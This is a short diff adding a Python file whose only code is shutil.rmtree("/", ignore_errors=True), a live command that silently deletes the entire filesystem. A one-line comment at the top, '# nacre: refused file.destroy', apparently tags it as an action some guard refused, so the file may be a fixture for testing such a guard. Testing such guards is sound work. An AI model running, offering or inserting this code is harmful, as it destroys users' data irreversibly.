@@ -1,0 +1,3 @@
+# nacre: refused file.destroy
+import shutil
+shutil.rmtree("/", ignore_errors=True)
